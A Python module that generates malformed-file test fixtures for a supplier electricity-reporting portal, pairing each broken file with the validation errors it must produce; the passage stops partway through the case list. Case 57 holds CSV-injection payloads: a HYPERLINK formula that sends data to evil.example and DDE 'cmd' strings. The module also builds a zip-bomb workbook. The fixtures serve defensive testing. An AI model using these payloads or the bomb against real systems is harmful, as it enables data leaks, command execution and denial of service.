"""The malformed-file corpus: every file, the rule of the submission format it breaks, and the
problems (row, column, reason) it must be refused with.

Run `python tests/reliability/corpus/make_corpus.py` to write the small files and README.md again.
Two files are only made at test time (`GENERATED`): the zip-bomb-like workbook and the
50 000-row file, so that no megabytes are committed. tests/reliability/test_malformed_files.py
reads the expectations from README.md, so the README is the single list the tests hold the
portal to.

The files are checked against a small world (the `world` fixture of the test module):
supplier CN-A001 (USCC 91320500MA0000101M) with site A1 in Jiangsu and an approved 2023 line for
A1; supplier CN-B001 (USCC 91320500MA0000202E); the periods of 2023 and 2024 open for reporting.
A supplier's own upload is made by a user of CN-A001.
"""

import csv
import io
import zipfile
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

CORPUS = Path(__file__).resolve().parent

COLUMNS = (
    "supplier_code", "supplier_name", "uscc", "site_code", "site_name", "province", "period", "unit",
    "total_electricity", "onsite_renewable", "green_power_trading", "gec", "irec", "bmw_share_percent",
    "certificate_ids",
)  # fmt: skip
USCC_A = "91320500MA0000101M"
USCC_B = "91320500MA0000202E"
USCC_NEW = "91320500MA00003037"
USCC_NEW_2 = "91320500MA00004040"
OWN_CODE_ONLY = "you can only report for your own supplier code CN-A001"

# The rules of the submission file format (docs/formats.md), and the house's rules
# on top of them; each case below names the rules it breaks.
RULES = {
    "F1": "The file is CSV or XLSX; anything else (binary, an image, a damaged or bogus workbook) is refused.",
    "F2": "Encodings: UTF-8, UTF-8 with BOM, GB18030/GBK; anything else is a clear error.",
    "F3": "The first non-empty row is the header: every required column present, no unknown or repeated column.",
    "F4": "A file has at least one row under its header; an empty file is refused.",
    "F5": "A row has no more cells than the header has columns, and no value under a nameless column.",
    "F6": "The CSV is well formed: quotes closed and doubled inside quoted cells.",
    "F7": "A workbook is read as shown: the sheet shown when it was saved, never a hidden one; no merged cells "
    "holding a value (the value shows in each cell, the file keeps it in the first only).",
    "R1": "`supplier_code` is required, up to 20 letters, digits, dots, dashes or underscores.",
    "R2": "`supplier_name` is required on a supplier's first sight; at most 200 characters.",
    "R3": "`uscc` is required on a supplier's first sight.",
    "R4": "`uscc` has 18 characters of the GB 32100-2015 alphabet and a correct check character.",
    "R5": "`uscc` matches the one on record, is the same in every row of a supplier and belongs to one supplier.",
    "R6": "`site_code` is required, in the same form as a supplier code.",
    "R7": "`site_name` and `province` are required on a site's first sight; a name has at most 200 characters.",
    "R8": "`province` is an English or Chinese name or a GB/T 2260 code of a province on the mainland grids, "
    "the same as on record and in every row of the site.",
    "R9": "`period` is required: `2024`, `2024-Q2` or `2024-03` (or as written in Chinese: `2024年`, `2024年3月`, "
    "`2024年第二季度`, `2024Q2`), year 2000–2100.",
    "R10": "`unit` is required: `kWh`, `MWh`, `GWh` or `万kWh` (or `千瓦时`, `万千瓦时`, `兆瓦时`, `吉瓦时`, `kW·h`).",
    "R11": "`total_electricity` is required.",
    "R12": "Quantities are non-negative numbers (thousands separated by commas or spaces, Excel's 1.25E+06; "
    "no words, ambiguous decimal comma, NaN or infinity), at most 1 Wh precise and at most 100 TWh per line.",
    "R13": "The green quantities add up to no more than `total_electricity`.",
    "R14": "`bmw_share_percent` is required, 0 to 100, at most 4 decimals.",
    "R15": "`certificate_ids` are required when `gec` or `irec` > 0; each a batch ID, none listed twice.",
    "R16": "The same (supplier, site, period) twice in one file is an error.",
    "R17": "A period that overlaps another of the same site, in the file or stored, is an error.",
    "R18": "Names must not start with `=`, `+`, `-` or `@` (a spreadsheet would run them as formulas).",
    "R19": "A supplier's own upload holds only the supplier's own rows, of its sites on record, under the names on "
    "record: a new site or another name is for staff to record.",
    "R20": "One bad row refuses the file, and every bad row is named.",
}

Problem = tuple[int | None, str | None, str]


@dataclass
class Case:
    name: str
    rules: list[str]
    description: str
    problems: list[Problem]
    content: Callable[[], bytes]
    supplier_problems: list[Problem] | None = None  # a supplier's own upload, when it differs
    generated: bool = False  # made at test time, not committed
    chinese: dict[str, str] = field(default_factory=dict)


def row(**cells: str) -> dict[str, str]:
    """A valid row of CN-A001's site A1 for 2024, with `cells` changed."""
    base = dict.fromkeys(COLUMNS, "")
    base.update(
        supplier_code="CN-A001", site_code="A1", period="2024", unit="MWh", total_electricity="1000",
        bmw_share_percent="50",
    )  # fmt: skip
    return base | cells


def csv_bytes(
    rows: list[dict[str, str]], header: tuple[str, ...] | list[str] = COLUMNS, encoding: str = "utf-8"
) -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows([[r.get(column, "") for column in header] for r in rows])
    return out.getvalue().encode(encoding)


def monthly(*rows: dict[str, object]) -> list[dict[str, object]]:
    """The rows as A1's months of 2024, one each, so that they do not collide: a file's problems are
    told all at once, the rows' duplicate or overlapping periods too."""
    return [r | {"period": f"2024-{number:02d}"} for number, r in enumerate(rows, start=1)]


def csv_of(*rows: dict[str, str]) -> Callable[[], bytes]:
    return lambda: csv_bytes(list(rows))


def xlsx_bytes(rows: list[list[object]], *, text_cells: tuple[tuple[int, int], ...] = ()) -> bytes:
    """A workbook of `rows`; `text_cells` (row, column), 1-based, are kept as text even if they
    start with = (as Excel keeps a cell typed with a leading apostrophe)."""
    from openpyxl import Workbook

    workbook = Workbook()
    sheet = workbook.active
    for values in rows:
        sheet.append(values)
    for r, c in text_cells:
        sheet.cell(row=r, column=c).data_type = "s"
    out = io.BytesIO()
    workbook.save(out)
    return _deterministic(out.getvalue())


def _deterministic(content: bytes) -> bytes:
    """The same workbook bytes on every run (openpyxl stamps the time in docProps/core.xml)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "docProps/core.xml":
                import re

                data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2024-01-01T00:00:00Z", data)
            target.writestr(zipfile.ZipInfo(info.filename, date_time=(2024, 1, 1, 0, 0, 0)), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def xlsx_rows(*rows: dict[str, object]) -> list[list[object]]:
    return [list(COLUMNS), *[[r.get(column, "") or None for column in COLUMNS] for r in rows]]


def xlsx_patched(rows: list[list[object]], replacements: list[tuple[bytes, bytes]]) -> bytes:
    """A workbook whose sheet XML is edited: values openpyxl will not write (NaN, error cells)."""
    content = xlsx_bytes(rows)
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                for old, new in replacements:
                    assert old in data, old
                    data = data.replace(old, new, 1)
            target.writestr(info, data)
    return out.getvalue()


def zip_bomb_xlsx() -> bytes:
    """A workbook whose sheet unpacks to 60 MB of blank rows from well under 100 KB."""
    good = zipfile.ZipFile(io.BytesIO(xlsx_bytes(xlsx_rows(row()))))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in good.infolist():
            data = good.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</sheetData>", b"<row/>" * 10_000_000 + b"</sheetData>")
            target.writestr(info.filename, data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


BIG_FILE_ROWS = 50_000
BIG_FILE_BAD_ROW = 37_123  # the spreadsheet's row number of the one bad row


def big_file_csv() -> bytes:
    """50 000 rows of new sites of CN-A001, one of them (row 37 123) with a share of 101 %."""
    lines = [",".join(COLUMNS)]
    for number in range(2, BIG_FILE_ROWS + 2):
        share = "101" if number == BIG_FILE_BAD_ROW else "40"
        lines.append(f'CN-A001,,,N{number},Hall {number},Jiangsu,2024,kWh,"1,250,000",,,,,{share},')
    return ("\n".join(lines) + "\n").encode()


def _valid_xlsx() -> bytes:
    return xlsx_bytes(xlsx_rows(row(total_electricity=1000, bmw_share_percent=50)))


def _corrupt_sheet_xlsx() -> bytes:
    source = zipfile.ZipFile(io.BytesIO(_valid_xlsx()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2] + b"\x00<<garbage"
            target.writestr(info, data)
    return out.getvalue()


def _merged_xlsx() -> bytes:
    """Rows 2 and 3 of A1 (2024-Q1, 2024-Q2) with one supplier_code cell merged over both; before
    the data sheet a hidden sheet whose rows would be refused for other reasons."""
    from openpyxl import Workbook

    workbook = Workbook()
    hidden = workbook.active
    hidden.title = "old"
    hidden.append(list(COLUMNS))
    hidden.append(list(row(bmw_share_percent="500").values()))
    hidden.sheet_state = "hidden"
    sheet = workbook.create_sheet("figures")
    for values in xlsx_rows(row(period="2024-Q1"), row(period="2024-Q2")):
        sheet.append(values)
    sheet.merge_cells("A2:A3")
    workbook.active = 1
    out = io.BytesIO()
    workbook.save(out)
    return _deterministic(out.getvalue())


def _docx_like() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        target.writestr(zipfile.ZipInfo("[Content_Types].xml", (2024, 1, 1, 0, 0, 0)), b'<?xml version="1.0"?><Types/>')
        target.writestr(zipfile.ZipInfo("word/document.xml", (2024, 1, 1, 0, 0, 0)), b"<w:document/>")
    return out.getvalue()


def _png() -> bytes:
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\x00\x00")) + chunk(b"IEND", b"")
    )


def _garbage() -> bytes:
    import random

    return random.Random(20241129).randbytes(2048)


FORMULA = "must not start with =, +, - or @: a spreadsheet would run it as a formula"
FORMULA_WITHOUT_RESULT = "is a formula whose result the file does not hold: save the file in Excel, or type the value"
REQUIRED = "is required"
HOW_TO_WRITE = ": write it in digits, such as 1250000, 1,250,000.5 or 1.25E+06"
HOW_TO_WRITE_ZH = "：请用阿拉伯数字填写，例如 1250000、1,250,000.5 或 1.25E+06"
AMBIGUOUS = (
    " is ambiguous: write the decimal mark as a point and group thousands with commas or spaces, such as 1,250,000.5"
)


def not_a_number(value: str) -> str:
    return f"“{value}” is not a number{HOW_TO_WRITE}"


NEW_SUPPLIER = "is required for a supplier seen for the first time (CN-Z999)"


def new_site(code: str) -> str:
    """A supplier's upload refuses a site staff have not recorded."""
    return (
        f"site {code} is not one of your sites on record: an upload cannot add a site. Ask staff to add it "
        "(its code, name and province), then upload again"
    )


def _header_without(column: str) -> tuple[str, ...]:
    return tuple(c for c in COLUMNS if c != column)


CASES: list[Case] = [
    # --- Not a submission file at all --------------------------------------------------------
    Case(
        "01-empty.csv",
        ["F4"],
        "0 bytes",
        [(None, None, "The file is empty.")],
        lambda: b"",
        chinese={"The file is empty.": "文件为空。"},
    ),
    Case(
        "02-blank-lines.csv",
        ["F4"],
        "only blank lines and spaces",
        [(None, None, "The file is empty.")],
        lambda: b"\n \r\n\t\n",
    ),
    Case(
        "03-commas-only.csv",
        ["F4"],
        "rows of empty cells: nothing but commas",
        [(None, None, "The file is empty.")],
        lambda: b",,,,\n,,,\n",
    ),
    Case(
        "04-header-only.csv",
        ["F4"],
        "the header and no row",
        [(None, None, "The file has a header but no rows.")],
        lambda: csv_bytes([]),
        chinese={"The file has a header but no rows.": "文件只有表头，没有数据行。"},
    ),
    Case(
        "05-binary-garbage.csv",
        ["F1"],
        "2 KB of random bytes named .csv",
        [(None, None, "The file is not a text CSV file nor an Excel workbook (.xlsx).")],
        _garbage,
    ),
    Case(
        "06-image.csv",
        ["F1"],
        "a PNG image renamed .csv",
        [(None, None, "The file is not a text CSV file nor an Excel workbook (.xlsx).")],
        _png,
    ),
    Case(
        "07-utf16.csv",
        ["F2"],
        'UTF-16 with its byte-order mark (Excel\'s "Unicode text")',
        [(None, None, "The file is UTF-16; save it as CSV UTF-8 or as an Excel workbook.")],
        lambda: csv_bytes([row(supplier_name="阿尔法铸造")]).decode().encode("utf-16"),
    ),
    Case(
        "08-utf16-without-bom.csv",
        ["F2"],
        "UTF-16 LE without a byte-order mark",
        [(None, None, "The file is not a text CSV file nor an Excel workbook (.xlsx).")],
        lambda: csv_bytes([row()]).decode().encode("utf-16-le"),
    ),
    Case(
        "09-latin1.csv",
        ["F2"],
        'Latin-1 ("Société Générale"): neither UTF-8 nor GB18030',
        [(None, None, "The file's encoding is not recognised: save it as UTF-8 or GB18030/GBK.")],
        lambda: csv_bytes([row(supplier_name="Société Générale")], encoding="latin-1"),
    ),
    Case(
        "10-bom-then-gbk.csv",
        ["F2"],
        "a UTF-8 byte-order mark in front of GBK text",
        [(None, None, "The file's encoding is not recognised: save it as UTF-8 or GB18030/GBK.")],
        lambda: b"\xef\xbb\xbf" + csv_bytes([row(supplier_name="阿尔法铸造有限公司")], encoding="gbk"),
    ),
    Case(
        "11-unclosed-quote.csv",
        ["F6"],
        "a quoted cell never closed (row 3)",
        [(3, None, 'a quoted cell is not closed: a closing " is missing')],
        lambda: csv_bytes([row()]) + b'CN-A001,"Alpha,,A1,,,2024,MWh,1000,,,,,50,\n',
    ),
    Case(
        "12-stray-quote.csv",
        ["F6"],
        "a quote inside a quoted cell not doubled (row 2)",
        [(2, None, 'a quote (") inside a quoted cell must be doubled ("")')],
        lambda: csv_bytes([]) + b'CN-A001,"Alpha "Castings" Ltd",,A1,,,2024,MWh,1000,,,,,50,\n',
    ),
    Case(
        "13-semicolon-separated.csv",
        ["F3"],
        "a European Excel's CSV, separated by ; (the header is one column)",
        [
            (1, "supplier_code", "this required column is missing from the header"),
            (1, "site_code", "this required column is missing from the header"),
            (1, "period", "this required column is missing from the header"),
            (1, "unit", "this required column is missing from the header"),
            (1, "total_electricity", "this required column is missing from the header"),
            (1, "bmw_share_percent", "this required column is missing from the header"),
            (1, ";".join(COLUMNS), "is not a column of the submission format"),
        ],
        lambda: (";".join(COLUMNS) + "\nCN-A001;;;A1;;;2024;MWh;1000;;;;;50;\n").encode(),
    ),
    Case(
        "14-missing-column.csv",
        ["F3"],
        "no `bmw_share_percent` column",
        [(1, "bmw_share_percent", "this required column is missing from the header")],
        lambda: csv_bytes([row()], header=_header_without("bmw_share_percent")),
        chinese={"this required column is missing from the header": "表头缺少此必填列"},
    ),
    Case(
        "15-unknown-column.csv",
        ["F3"],
        "an extra `notes` column",
        [(1, "notes", "is not a column of the submission format")],
        lambda: csv_bytes([row(notes="checked")], header=(*COLUMNS, "notes")),
    ),
    Case(
        "16-repeated-column.csv",
        ["F3"],
        "`unit` twice in the header",
        [(1, "unit", "appears more than once in the header")],
        lambda: csv_bytes([row()], header=(*COLUMNS, "unit")),
    ),
    Case(
        "17-chinese-header.csv",
        ["F3"],
        "the header translated into Chinese",
        [
            *(
                (1, c, "this required column is missing from the header")
                for c in ("supplier_code", "site_code", "period", "unit", "total_electricity", "bmw_share_percent")
            ),
            (1, "供应商代码", "is not a column of the submission format"),
            (1, "站点代码", "is not a column of the submission format"),
        ],
        lambda: "供应商代码,站点代码\nCN-A001,A1\n".encode(),
    ),
    Case(
        "18-extra-cells.csv",
        ["F5"],
        "row 2 has a 16th cell",
        [(2, None, "has more cells than the header has columns")],
        lambda: csv_bytes([row()]).replace(b"50,\n", b"50,,surplus\n"),
    ),
    Case(
        "19-value-under-nameless-column.csv",
        ["F5"],
        "a value under a header cell left empty (column 16)",
        [(2, None, "has a value in column 16, which has no name in the header")],
        lambda: csv_bytes([row()], header=(*COLUMNS, "")).replace(b"50,,\n", b"50,,GEC-1\n"),
    ),
    # --- One rule of one column broken -------------------------------------------------------
    Case(
        "20-blank-supplier-code.csv",
        ["R1"],
        "`supplier_code` empty",
        [(2, "supplier_code", REQUIRED)],
        csv_of(row(supplier_code="")),
        chinese={REQUIRED: "为必填项"},
    ),
    Case(
        "21-bad-supplier-code.csv",
        ["R1"],
        "`supplier_code` with a space and a !",
        [(2, "supplier_code", "Use up to 20 letters, digits, dots, dashes or underscores.")],
        csv_of(row(supplier_code="CN A001!")),
    ),
    Case(
        "22-unknown-supplier.csv",
        ["R2", "R3", "R19"],
        "supplier CN-Z999, unknown, without name or USCC",
        [(2, "supplier_name", NEW_SUPPLIER), (2, "uscc", NEW_SUPPLIER)],
        csv_of(row(supplier_code="CN-Z999", site_name="Hall", province="Jiangsu")),
        supplier_problems=[(2, "supplier_code", OWN_CODE_ONLY)],
        chinese={
            NEW_SUPPLIER: "首次出现的供应商（CN-Z999）必须填写此项",
            OWN_CODE_ONLY: "您只能以本公司的供应商代码 CN-A001 填报",
        },
    ),
    Case(
        "23-long-supplier-name.csv",
        ["R2"],
        "`supplier_name` of 201 characters",
        [(2, "supplier_name", "is longer than 200 characters")],
        csv_of(row(supplier_name="A" * 201)),
    ),
    Case(
        "24-uscc-length.csv",
        ["R4"],
        "`uscc` of 17 characters",
        [(2, "uscc", "A USCC has 18 characters; this one has 17.")],
        csv_of(row(uscc=USCC_A[:17])),
    ),
    Case(
        "25-uscc-alphabet.csv",
        ["R4"],
        "`uscc` with an O and an I",
        [(2, "uscc", "A USCC uses digits and capital letters except I, O, Z, S and V; “IO” is not allowed.")],
        csv_of(row(uscc="91320500MAOI00101M")),
    ),
    Case(
        "26-uscc-check-character.csv",
        ["R4"],
        "`uscc` whose check character is wrong",
        [(2, "uscc", "The USCC's check character is wrong (GB 32100-2015): expected M, found 0.")],
        csv_of(row(uscc=USCC_A[:17] + "0")),
    ),
    Case(
        "27-uscc-differs-from-record.csv",
        ["R5"],
        "CN-A001 with CN-B001's USCC",
        [(2, "uscc", "differs from the USCC on record for CN-A001")],
        csv_of(row(uscc=USCC_B)),
    ),
    Case(
        "28-uscc-of-another-supplier.csv",
        ["R5"],
        "a new supplier claiming CN-B001's USCC",
        [(2, "uscc", "is already the USCC of supplier CN-B001")],
        csv_of(row(supplier_code="CN-Z999", supplier_name="Zeta", uscc=USCC_B, site_name="Hall", province="Jiangsu")),
        supplier_problems=[(2, "supplier_code", OWN_CODE_ONLY)],
    ),
    Case(
        "29-two-usccs-for-one-supplier.csv",
        ["R5"],
        "new supplier CN-Z999 with two USCCs in two rows",
        [(3, "uscc", "differs from the USCC given for CN-Z999 in row 2")],
        csv_of(
            row(supplier_code="CN-Z999", supplier_name="Zeta", uscc=USCC_NEW, site_name="Hall", province="Jiangsu"),
            row(supplier_code="CN-Z999", uscc=USCC_NEW_2, period="2023"),
        ),
        supplier_problems=[(2, "supplier_code", OWN_CODE_ONLY), (3, "supplier_code", OWN_CODE_ONLY)],
    ),
    Case(
        "30-one-uscc-for-two-suppliers.csv",
        ["R5"],
        "two new suppliers giving the same USCC",
        [(3, "uscc", "is already given for supplier CN-Z998 in row 2")],
        csv_of(
            row(supplier_code="CN-Z998", supplier_name="Zeta", uscc=USCC_NEW, site_name="Hall", province="Jiangsu"),
            row(supplier_code="CN-Z999", supplier_name="Eta", uscc=USCC_NEW, site_name="Hall", province="Jiangsu"),
        ),
        supplier_problems=[(2, "supplier_code", OWN_CODE_ONLY), (3, "supplier_code", OWN_CODE_ONLY)],
    ),
    Case(
        "31-blank-site-code.csv",
        ["R6"],
        "`site_code` empty",
        [(2, "site_code", REQUIRED)],
        csv_of(row(site_code="")),
    ),
    Case(
        "32-long-site-code.csv",
        ["R6"],
        "`site_code` of 21 characters",
        [(2, "site_code", "Use up to 20 letters, digits, dots, dashes or underscores.")],
        csv_of(row(site_code="A" * 21)),
    ),
    Case(
        "33-unknown-site.csv",
        ["R7"],
        "site A9, unknown, without name or province",
        [
            (2, "province", "is required for a site seen for the first time (A9)"),
            (2, "site_name", "is required for a site seen for the first time (A9)"),
        ],
        csv_of(row(site_code="A9")),
        supplier_problems=[(2, "site_code", new_site("A9"))],
    ),
    Case(
        "34-long-site-name.csv",
        ["R7"],
        "`site_name` of 201 characters",
        [(2, "site_name", "is longer than 200 characters")],
        csv_of(row(site_name="工" * 201)),
    ),
    Case(
        "35-unknown-province.csv",
        ["R8"],
        "province Atlantis",
        [
            (
                2,
                "province",
                "“Atlantis” is not a province: give its English or Chinese name or its GB/T 2260 code (e.g. 210000).",
            )
        ],
        csv_of(row(province="Atlantis")),
    ),
    Case(
        "36-province-outside-grids.csv",
        ["R8"],
        "a new site in Hong Kong",
        [(2, "province", "“香港” is outside mainland China's regional grids; sites there cannot be reported.")],
        csv_of(row(site_code="A9", site_name="Kowloon office", province="香港")),
        supplier_problems=[
            (2, "province", "“香港” is outside mainland China's regional grids; sites there cannot be reported."),
            (2, "site_code", new_site("A9")),
        ],
    ),
    Case(
        "37-province-differs-from-record.csv",
        ["R8"],
        "site A1 (Jiangsu on record) said to be in Liaoning",
        [(2, "province", "site A1 is recorded in Jiangsu 江苏; ask staff to change a site's province")],
        csv_of(row(province="Liaoning")),
    ),
    Case(
        "38-province-differs-in-file.csv",
        ["R8"],
        "new site A9 in Jiangsu in row 2, in Liaoning in row 3",
        [(3, "province", "differs from the province given for site A9 in row 2")],
        csv_of(
            row(site_code="A9", site_name="Hall 9", province="Jiangsu", period="2024-Q1"),
            row(site_code="A9", province="210000", period="2024-Q2"),
        ),
        supplier_problems=[(2, "site_code", new_site("A9")), (3, "site_code", new_site("A9"))],
    ),
    Case(
        "39-blank-period.csv",
        ["R9"],
        "`period` empty",
        [(2, "period", REQUIRED)],
        csv_of(row(period="")),
    ),
    Case(
        "40-bad-periods.csv",
        ["R9", "R20"],
        "periods 2024-Q5, 2024-13, 1999, 24/03 in rows 2–5",
        [
            (2, "period", "“2024-Q5” is not a period: use 2024, 2024-Q2 or 2024-03."),
            (3, "period", "“2024-13” has no month 13."),
            (4, "period", "The year 1999 is outside 2000–2100."),
            (5, "period", "“24/03” is not a period: use 2024, 2024-Q2 or 2024-03."),
        ],
        csv_of(row(period="2024-Q5"), row(period="2024-13"), row(period="1999"), row(period="24/03")),
    ),
    Case(
        "41-blank-unit.csv",
        ["R10"],
        "`unit` empty",
        [(2, "unit", REQUIRED)],
        csv_of(row(unit="")),
    ),
    Case(
        "42-bad-unit.csv",
        ["R10"],
        "unit kW (a power, not an energy)",
        [(2, "unit", "“kW” is not a unit: use kWh, MWh, GWh or 万kWh.")],
        csv_of(row(unit="kW")),
        chinese={
            "“kW” is not a unit: use kWh, MWh, GWh or 万kWh.": "“kW”不是有效单位：请使用 kWh、MWh、GWh 或 万kWh。"
        },
    ),
    Case(
        "43-blank-total.csv",
        ["R11"],
        "`total_electricity` empty",
        [(2, "total_electricity", REQUIRED)],
        csv_of(row(total_electricity="")),
    ),
    Case(
        "44-not-numbers.csv",
        ["R12", "R20"],
        "words in English and Chinese, a bad thousands separator and a decimal comma in rows 2–5",
        [
            (2, "total_electricity", not_a_number("about 1000")),
            (3, "onsite_renewable", not_a_number("一千")),
            (4, "total_electricity", not_a_number("1,23,456")),
            (5, "total_electricity", "“1.250.000,5”" + AMBIGUOUS),
        ],
        csv_of(
            *monthly(
                row(total_electricity="about 1000"),
                row(onsite_renewable="一千"),
                row(total_electricity="1,23,456"),
                row(total_electricity="1.250.000,5"),
            )
        ),
    ),
    Case(
        "45-nan-and-infinity.csv",
        ["R12", "R20"],
        "NaN, inf, -Infinity and Infinity as quantities",
        [
            (2, "total_electricity", not_a_number("NaN")),
            (3, "gec", not_a_number("inf")),
            (4, "irec", not_a_number("-Infinity")),
            (5, "green_power_trading", not_a_number("Infinity")),
        ],
        csv_of(
            *monthly(
                row(total_electricity="NaN"),
                row(gec="inf", certificate_ids="GEC-1"),
                row(irec="-Infinity", certificate_ids="IREC-1"),
                row(green_power_trading="Infinity"),
            )
        ),
    ),
    Case(
        "46-negative-quantity.csv",
        ["R12"],
        "onsite_renewable -5",
        [(2, "onsite_renewable", "must not be negative")],
        csv_of(row(onsite_renewable="-5")),
    ),
    Case(
        "47-huge-numbers.csv",
        ["R12", "R20"],
        "1 000 TWh typed as GWh, a 31-digit kWh figure, and a 400-digit figure",
        [
            (2, "total_electricity", "1,000,000,000 MWh is implausibly large for one site; check the unit"),
            (3, "total_electricity", "1.000E+27 MWh is implausibly large for one site; check the unit"),
            (4, "total_electricity", "1.000E+400 MWh is implausibly large for one site; check the unit"),
        ],
        csv_of(
            *monthly(
                row(total_electricity="1,000,000", unit="GWh"),
                row(total_electricity="1" + "0" * 30, unit="kWh"),
                row(total_electricity="9" * 400),
            )
        ),
    ),
    Case(
        "48-too-precise.csv",
        ["R12", "R20"],
        "0.5 Wh, and 1000 MWh plus 10⁻³⁰ (which rounding to 28 digits would let through)",
        [
            (2, "total_electricity", "has more decimal places than 0.000001 MWh (1 Wh)"),
            (3, "total_electricity", "has more decimal places than 0.000001 MWh (1 Wh)"),
        ],
        csv_of(*monthly(row(total_electricity="0.0005", unit="kWh"), row(total_electricity="1000." + "0" * 29 + "1"))),
    ),
    Case(
        "49-green-above-total.csv",
        ["R13"],
        "1000 MWh in all, 600 + 500 MWh green",
        [(2, "total_electricity", "the green quantities add up to 1,100 MWh, more than the total of 1,000 MWh")],
        csv_of(row(onsite_renewable="600", green_power_trading="500")),
    ),
    Case(
        "50-blank-share.csv",
        ["R14", "R20"],
        "`bmw_share_percent` empty, and only a % sign",
        [(2, "bmw_share_percent", REQUIRED), (3, "bmw_share_percent", REQUIRED)],
        csv_of(*monthly(row(bmw_share_percent=""), row(bmw_share_percent="%"))),
    ),
    Case(
        "51-bad-shares.csv",
        ["R14", "R20"],
        "shares 100.5, -1, 33.33333 and 一半 (half)",
        [
            (2, "bmw_share_percent", "must be between 0 and 100"),
            (3, "bmw_share_percent", "must not be negative"),
            (4, "bmw_share_percent", "has more than 4 decimal places"),
            (5, "bmw_share_percent", not_a_number("一半")),
        ],
        csv_of(
            *monthly(
                row(bmw_share_percent="100.5"),
                row(bmw_share_percent="-1"),
                row(bmw_share_percent="33.33333"),
                row(bmw_share_percent="一半"),
            )
        ),
        chinese={
            "must be between 0 and 100": "必须介于 0 到 100 之间",
            "must not be negative": "不得为负数",
            "has more than 4 decimal places": "小数位数超过 4 位",
            not_a_number("一半"): "“一半”不是有效数字" + HOW_TO_WRITE_ZH,
        },
    ),
    Case(
        "52-gec-without-certificates.csv",
        ["R15"],
        "gec 200 MWh and no certificate IDs",
        [(2, "certificate_ids", "are required when GEC or I-REC quantities are reported")],
        csv_of(row(gec="200")),
    ),
    Case(
        "53-bad-certificate-ids.csv",
        ["R15"],
        "a batch ID with spaces and !, and one ID listed twice",
        [
            (2, "certificate_ids", "“GEC 2024 !!” is not a certificate batch ID"),
            (2, "certificate_ids", "“GEC-2024-1” is listed twice"),
        ],
        csv_of(row(gec="200", certificate_ids="GEC 2024 !!;GEC-2024-1; gec-2024-1")),
    ),
    Case(
        "54-duplicate-rows.csv",
        ["R16"],
        "the same row twice",
        [(3, "period", "site A1 already has period 2024 in row 2")],
        csv_of(row(), row()),
    ),
    Case(
        "55-overlapping-periods.csv",
        ["R17"],
        "A1 for 2024 and for 2024-Q2",
        [(3, "period", "2024-Q2 overlaps 2024 of site A1 in row 2")],
        csv_of(row(), row(period="2024-Q2")),
    ),
    Case(
        "56-overlaps-stored-period.csv",
        ["R17"],
        "A1 for 2023-Q2 while 2023 is stored",
        [(2, "period", "2023-Q2 overlaps the stored period 2023 of site A1")],
        csv_of(row(period="2023-Q2")),
    ),
    Case(
        "57-formula-names.csv",
        ["R18", "R20"],
        "names =HYPERLINK(…), +cmd|…, @SUM(…) and -2+3 (CSV injection)",
        [
            (2, "supplier_name", FORMULA),
            (3, "site_name", FORMULA),
            (4, "site_name", FORMULA),
            (5, "supplier_name", FORMULA),
        ],
        csv_of(
            *monthly(
                row(supplier_name='=HYPERLINK("http://evil.example/?"&A1,"Click")'),
                row(site_name="+cmd|' /C calc'!A0"),
            ),
            row(site_code="A9", site_name="@SUM(1+1)*cmd|' /C calc'!A0", province="Jiangsu"),
            row(site_code="A8", supplier_name="-2+3+cmd|' /C calc'!A0", site_name="Hall 8", province="Jiangsu"),
        ),
        supplier_problems=[
            (2, "supplier_name", FORMULA),
            (3, "site_name", FORMULA),
            (4, "site_name", FORMULA),
            (4, "site_code", new_site("A9")),
            (5, "supplier_name", FORMULA),
            (5, "site_code", new_site("A8")),
        ],
    ),
    Case(
        "58-formula-in-code-and-unit.csv",
        ["R1", "R10"],
        "=1+1 as supplier code and @SUM(A1) as unit",
        [
            (2, "supplier_code", "Use up to 20 letters, digits, dots, dashes or underscores."),
            (3, "unit", "“@SUM(A1)” is not a unit: use kWh, MWh, GWh or 万kWh."),
        ],
        csv_of(*monthly(row(supplier_code="=1+1"), row(unit="@SUM(A1)"))),
    ),
    Case(
        "59-one-bad-row-among-good.csv",
        ["R20"],
        "rows 2–5 good, row 6 bad: nothing is saved",
        [(6, "bmw_share_percent", "must be between 0 and 100")],
        csv_of(
            row(period="2024-Q1"),
            row(period="2024-Q2"),
            row(period="2024-Q3"),
            row(period="2024-Q4"),
            row(site_code="A9", site_name="Hall 9", province="Jiangsu", bmw_share_percent="150"),
        ),
        supplier_problems=[(6, "bmw_share_percent", "must be between 0 and 100"), (6, "site_code", new_site("A9"))],
    ),
    Case(
        "60-gbk-with-errors.csv",
        ["R8", "R14", "R20"],
        "GBK (as Excel in China saves it) with two bad rows",
        [
            (
                2,
                "province",
                "“火星” is not a province: give its English or Chinese name or its GB/T 2260 code (e.g. 210000).",
            ),
            (3, "bmw_share_percent", "must be between 0 and 100"),
        ],
        lambda: csv_bytes(
            [
                row(site_code="A9", site_name="九号车间", province="火星"),
